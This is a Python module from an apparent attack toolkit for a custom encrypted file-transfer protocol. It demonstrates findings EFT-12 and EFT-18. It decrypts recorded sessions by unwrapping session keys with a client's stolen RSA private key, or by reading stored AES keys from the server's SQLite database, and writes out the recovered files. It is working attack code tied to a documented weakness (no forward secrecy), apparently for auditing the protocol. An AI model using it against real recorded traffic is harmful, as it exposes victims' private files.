"""Decrypt recorded sessions later, with keys found at rest on either side.

No forward secrecy: the AES key of every session travels wrapped with the client's
long-term RSA key (1602, 1605), and that key lies unencrypted in me.info and priv.key
on the client's disk. Whoever records the traffic today and reads those files one day
(a stolen laptop, a backup, malware) unwraps every recorded session key and decrypts
every file ever sent (``--me-info``). An ephemeral key agreement per session (as in
version 4) would stop this.

The server side has the same problem in a smaller way: the original design's database
keeps each client's last AES key (``clients.AESKey``), and a server that writes it to
disk lets a reader of that disk (or of a backup) decrypt each client's last recorded
session (``--server-db``, the server's SQLite file).
"""

from __future__ import annotations

import argparse
import sqlite3
from pathlib import Path

from eft_protocol import crypto, errors
from eft_protocol.cksum import cksum

from .common import AttackError, Out, preview, read_me_info
from .recording import Attempt, SessionView, load_sessions

FINDING = "EFT-12"
SUMMARY = "decrypt recordings with keys found later on a client (EFT-12) or server (EFT-18) disk"


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--recording", required=True, help="made by 'eft-attack record'")
    parser.add_argument("--me-info", help="the victim's me.info or priv.key (client disk)")
    parser.add_argument("--server-db", help="the server's SQLite registry (server disk)")
    parser.add_argument("--out", help="directory to write the decrypted files to")


def keys_from_client(path: Path, view: SessionView) -> list[bytes | None]:
    """Each wrapped key of the session, unwrapped with the stolen private key."""
    if path.name == "priv.key":
        key = crypto.import_private_key(path.read_text())
    else:
        stolen = read_me_info(path).private_key
        assert stolen is not None
        key = stolen
    keys: list[bytes | None] = []
    for _code, wrapped in view.wrapped_keys:
        try:
            keys.append(crypto.unwrap_aes_key(key, wrapped))
        except errors.ProtocolError:
            keys.append(None)  # another client's session
    return keys


def keys_from_server(path: Path) -> dict[bytes, bytes]:
    """client id -> the last AES key the server issued, as stored in its database."""
    try:
        with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as db:
            rows = db.execute("SELECT ID, AESKey FROM clients WHERE AESKey IS NOT NULL")
            return {bytes(client_id): bytes(key) for client_id, key in rows}
    except sqlite3.Error as exc:
        raise AttackError(f"cannot read {path}: {exc}") from None


def candidates(args: argparse.Namespace, view: SessionView, attempt: Attempt) -> list[bytes]:
    found = []
    if args.me_info and attempt.key_index >= 0:
        key = keys_from_client(Path(args.me_info), view)[attempt.key_index]
        if key is not None:
            found.append(key)
    if args.server_db and view.client_id is not None:
        key = keys_from_server(Path(args.server_db)).get(view.client_id)
        if key is not None:
            found.append(key)
    return found


async def run(args: argparse.Namespace, out: Out) -> bool:
    if not (args.me_info or args.server_db):
        raise AttackError("give --me-info (client disk) or --server-db (server disk)")
    files = []
    for view in load_sessions(Path(args.recording)):
        for attempt in view.attempts:
            for key in candidates(args, view, attempt):
                try:
                    plaintext = crypto.decrypt_file_bytes(key, attempt.ciphertext)
                except errors.BadPadding:
                    continue  # not this session's key
                if cksum(plaintext) != attempt.cksum:
                    continue
                entry = {
                    "connection": view.conn,
                    "file_name": attempt.file_name,
                    "size": len(plaintext),
                    "plaintext": preview(plaintext),
                }
                if args.out:
                    target = Path(args.out) / f"{view.conn}-{Path(attempt.file_name).name}"
                    target.parent.mkdir(parents=True, exist_ok=True)
                    target.write_bytes(plaintext)
                files.append(entry)
                out.step(f"connection {view.conn}: decrypted {attempt.file_name!r}", **entry)
                break
    sessions = len({f["connection"] for f in files})
    return out.result(
        bool(files),
        f"decrypted {len(files)} recorded upload(s) of {sessions} session(s); each one's "
        "cksum equals the server's 1603",
        files=files,
    )
